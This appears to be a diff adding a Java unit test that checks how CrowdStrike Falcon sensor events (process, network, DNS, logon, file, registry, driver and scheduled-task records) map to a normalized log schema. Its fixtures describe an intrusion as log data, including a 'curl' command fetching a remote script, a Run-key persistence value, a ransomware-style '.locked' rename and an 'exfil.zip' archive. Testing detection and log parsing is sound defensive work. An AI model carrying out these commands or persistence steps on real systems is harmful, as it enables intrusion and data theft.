@@ -2036,4 +2036,140 @@ class CloudAuditMappingsTest {
                         .asText())
                 .isNotEqualTo("Falcon");
     }
+
+    @Test
+    void crowdStrikeFalconDataReplicatorSensorEventsAreProcessNetworkDnsLogonFileRegistryAndTaskActivity()
+            throws Exception {
+        // written from Falcon Data Replicator's documented event shape: event_simpleName, aid, cid,
+        // values as text, ContextTimeStamp in epoch seconds on the host, timestamp in milliseconds in the cloud
+        String common = "\"aid\": \"5d1a0c2e9b7f4e3a8c6d2b1f0e9a8c7d\", \"cid\": \"0f1e2d3c4b5a69788796a5b4c3d2e1f0\","
+                + " \"aip\": \"203.0.113.77\", \"timestamp\": \"1772355601000\", ";
+        JsonNode process = json("{" + common + """
+                "event_simpleName": "ProcessRollup2", "name": "ProcessRollup2V19", "event_platform": "Win",
+                 "id": "8a1f0c3e-1111-11f1-9a2b-0a1b2c3d4e5f", "ProcessStartTime": "1772355600.250",
+                 "ImageFileName": "\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\rundll32.exe",
+                 "CommandLine": "rundll32.exe C:\\\\Users\\\\carol\\\\AppData\\\\Local\\\\Temp\\\\upd.dll,Start",
+                 "RawProcessId": "6120", "TargetProcessId": "91234567890", "ParentProcessId": "91234500001",
+                 "ParentBaseFileName": "winword.exe", "UserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
+                 "UserName": "carol", "ComputerName": "WS-CAROL",
+                 "SHA256HashData": "3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a"}""");
+        assertProduct(process, "Falcon");
+        assertThat(process.get("class_uid").asInt()).isEqualTo(1007);
+        assertThat(process.get("activity_id").asInt()).isEqualTo(1);
+        assertThat(process.at("/process/name").asText()).isEqualTo("rundll32.exe");
+        assertThat(process.at("/process/cmd_line").asText()).startsWith("rundll32.exe C:\\Users\\carol");
+        assertThat(process.at("/process/pid").asInt()).isEqualTo(6120);
+        assertThat(process.at("/process/parent_process/name").asText()).isEqualTo("winword.exe");
+        assertThat(process.at("/process/user/name").asText()).isEqualTo("carol");
+        assertThat(process.at("/process/file/hashes/0/algorithm_id").asInt()).isEqualTo(3);
+        assertThat(process.at("/device/hostname").asText()).isEqualTo("WS-CAROL");
+        assertThat(process.at("/device/uid").asText()).isEqualTo("5d1a0c2e9b7f4e3a8c6d2b1f0e9a8c7d");
+        assertThat(process.get("time").asLong()).isEqualTo(1772355600250L);
+        // a Linux process, the user as its uid; its end with the exit code
+        JsonNode linux = json("{" + common + """
+                "event_simpleName": "ProcessRollup2", "event_platform": "Lin", "ProcessStartTime": "1772355602.000",
+                 "ImageFileName": "/usr/bin/curl", "CommandLine": "curl -s http://198.51.100.9/x.sh",
+                 "RawProcessId": "40211", "UID": "1001", "ParentBaseFileName": "bash"}""");
+        assertThat(linux.get("class_uid").asInt()).isEqualTo(1007);
+        assertThat(linux.at("/process/name").asText()).isEqualTo("curl");
+        assertThat(linux.at("/process/user/uid").asText()).isEqualTo("1001");
+        JsonNode end = json("{" + common + """
+                "event_simpleName": "EndOfProcess", "ContextTimeStamp": "1772355603.000",
+                 "TargetProcessId": "91234567890", "RawProcessId": "6120", "ExitCode": "1"}""");
+        assertThat(end.get("class_uid").asInt()).isEqualTo(1007);
+        assertThat(end.get("activity_id").asInt()).isEqualTo(2);
+        assertThat(end.get("exit_code").asInt()).isEqualTo(1);
+
+        // connections: outbound from the host, inbound with the remote end as the source
+        JsonNode connect = json("{" + common + """
+                "event_simpleName": "NetworkConnectIP4", "ContextTimeStamp": "1772355604.000", "ConnectionDirection": "0",
+                 "LocalAddressIP4": "192.0.2.15", "LocalPort": "50522", "RemoteAddressIP4": "198.51.100.9",
+                 "RemotePort": "443", "Protocol": "6", "ContextProcessId": "91234567890"}""");
+        MappedRecords.assertFlow(connect, 1, "192.0.2.15", 50522, "198.51.100.9", 443);
+        assertThat(connect.at("/connection_info/direction_id").asInt()).isEqualTo(2);
+        assertThat(connect.at("/actor/process/uid").asText()).isEqualTo("91234567890");
+        JsonNode accept = json("{" + common + """
+                "event_simpleName": "NetworkReceiveAcceptIP4", "ContextTimeStamp": "1772355605.000",
+                 "LocalAddressIP4": "192.0.2.15", "LocalPort": "3389", "RemoteAddressIP4": "203.0.113.40",
+                 "RemotePort": "61001", "Protocol": "6"}""");
+        MappedRecords.assertFlow(accept, 1, "203.0.113.40", 61001, "192.0.2.15", 3389);
+        assertThat(accept.at("/connection_info/direction_id").asInt()).isEqualTo(1);
+        JsonNode dns = json("{" + common + """
+                "event_simpleName": "DnsRequest", "ContextTimeStamp": "1772355606.000", "DomainName": "updates.example.com",
+                 "RequestType": "28", "RespondingDnsServer": "192.0.2.53", "FirstIP4Record": "198.51.100.9"}""");
+        assertThat(dns.get("class_uid").asInt()).isEqualTo(4003);
+        assertThat(dns.at("/query/hostname").asText()).isEqualTo("updates.example.com");
+        assertThat(dns.at("/query/type").asText()).isEqualTo("AAAA");
+
+        // logons: success and failure with the user, logon type and the remote address
+        JsonNode logon = json("{" + common + """
+                "event_simpleName": "UserLogon", "LogonTime": "1772355607.000", "UserName": "carol",
+                 "UserSid": "S-1-5-21-1004336348-1177238915-682003330-1107", "LogonDomain": "EXAMPLE",
+                 "LogonType": "10", "RemoteAddressIP4": "203.0.113.40", "AuthenticationPackage": "Negotiate"}""");
+        MappedRecords.assertLogon(logon, 1, "carol", "203.0.113.40");
+        assertThat(logon.get("logon_type_id").asInt()).isEqualTo(10);
+        assertThat(logon.at("/user/domain").asText()).isEqualTo("EXAMPLE");
+        JsonNode failed = json("{" + common + """
+                "event_simpleName": "UserLogonFailed2", "ContextTimeStamp": "1772355608.000", "UserName": "administrator",
+                 "LogonType": "3", "RemoteAddressIP4": "203.0.113.41", "SubStatus": "3221225578"}""");
+        MappedRecords.assertLogon(failed, 2, "administrator", "203.0.113.41");
+        assertThat(failed.get("status_code").asText()).isEqualTo("3221225578");
+
+        // files: written, deleted, renamed; a registry value set; a driver loaded; a task registered
+        JsonNode written = json("{" + common + """
+                "event_simpleName": "NewExecutableWritten", "ContextTimeStamp": "1772355609.000",
+                 "TargetFileName": "\\\\Device\\\\HarddiskVolume3\\\\Users\\\\carol\\\\AppData\\\\Local\\\\Temp\\\\upd.dll",
+                 "Size": "184320", "ContextProcessId": "91234567890"}""");
+        assertThat(written.get("class_uid").asInt()).isEqualTo(1001);
+        assertThat(written.get("activity_id").asInt()).isEqualTo(1);
+        assertThat(written.at("/file/name").asText()).isEqualTo("upd.dll");
+        assertThat(written.at("/file/size").asLong()).isEqualTo(184320L);
+        JsonNode archive = json("{" + common + """
+                "event_simpleName": "ZipFileWritten", "ContextTimeStamp": "1772355609.500",
+                 "TargetFileName": "/home/dave/exfil.zip"}""");
+        assertThat(archive.get("activity_id").asInt()).isEqualTo(1);
+        assertThat(archive.at("/file/name").asText()).isEqualTo("exfil.zip");
+        JsonNode deleted = json("{" + common + """
+                "event_simpleName": "FileDeleteInfo", "ContextTimeStamp": "1772355610.000",
+                 "TargetFileName": "\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\Temp\\\\a.ps1"}""");
+        assertThat(deleted.get("class_uid").asInt()).isEqualTo(1001);
+        assertThat(deleted.get("activity_id").asInt()).isEqualTo(4);
+        JsonNode renamed = json("{" + common + """
+                "event_simpleName": "FileRenameInfo", "ContextTimeStamp": "1772355611.000",
+                 "SourceFileName": "\\\\Device\\\\HarddiskVolume3\\\\Users\\\\carol\\\\report.docx",
+                 "TargetFileName": "\\\\Device\\\\HarddiskVolume3\\\\Users\\\\carol\\\\report.docx.locked"}""");
+        assertThat(renamed.get("activity_id").asInt()).isEqualTo(5);
+        assertThat(renamed.at("/file/name").asText()).isEqualTo("report.docx");
+        assertThat(renamed.at("/file_result/name").asText()).isEqualTo("report.docx.locked");
+        JsonNode registry = json("{" + common + """
+                "event_simpleName": "AsepValueUpdate", "ContextTimeStamp": "1772355612.000", "RegOperationType": "1",
+                 "RegObjectName": "\\\\REGISTRY\\\\USER\\\\S-1-5-21-1-2-3-1107\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run",
+                 "RegValueName": "Updater", "RegStringValue": "rundll32.exe upd.dll,Start"}""");
+        assertThat(registry.get("class_uid").asInt()).isEqualTo(201002);
+        assertThat(registry.get("activity_id").asInt()).isEqualTo(2);
+        assertThat(registry.at("/reg_value/name").asText()).isEqualTo("Updater");
+        assertThat(registry.at("/reg_value/data").asText()).isEqualTo("rundll32.exe upd.dll,Start");
+        JsonNode driver = json("{" + common + """
+                "event_simpleName": "DriverLoad", "ContextTimeStamp": "1772355613.000",
+                 "ImageFileName": "\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\drivers\\\\vuln.sys"}""");
+        assertThat(driver.get("class_uid").asInt()).isEqualTo(1002);
+        assertThat(driver.at("/driver/file/path").asText()).endsWith("vuln.sys");
+        JsonNode task = json("{" + common + """
+                "event_simpleName": "ScheduledTaskRegistered", "ContextTimeStamp": "1772355614.000", "UserName": "carol",
+                 "TaskName": "\\\\Microsoft\\\\Windows\\\\Updater", "TaskExecCommand": "C:\\\\Users\\\\carol\\\\upd.exe"}""");
+        assertThat(task.get("class_uid").asInt()).isEqualTo(1006);
+        assertThat(task.get("activity_id").asInt()).isEqualTo(1);
+        assertThat(task.at("/job/name").asText()).isEqualTo("\\Microsoft\\Windows\\Updater");
+
+        // the sensor's housekeeping stays a Base Event of Falcon; an event without the sensor's ids is not Falcon's
+        MappedRecords.assertBaseEventOf(json("{" + common + """
+                "event_simpleName": "SensorHeartbeat", "ConfigBuild": "1007.3.0019807.1"}"""), "Falcon");
+        MappedRecords.assertBaseEventOf(json("{" + common + """
+                "event_simpleName": "RawBindIP4", "ContextTimeStamp": "1772355615.000", "LocalAddressIP4": "192.0.2.15",
+                 "LocalPort": "53"}"""), "Falcon");
+        assertThat(json("{\"event_simpleName\": \"ProcessRollup2\", \"ImageFileName\": \"/bin/sh\"}")
+                        .at("/metadata/product/name")
+                        .asText())
+                .isNotEqualTo("Falcon");
+    }
 }
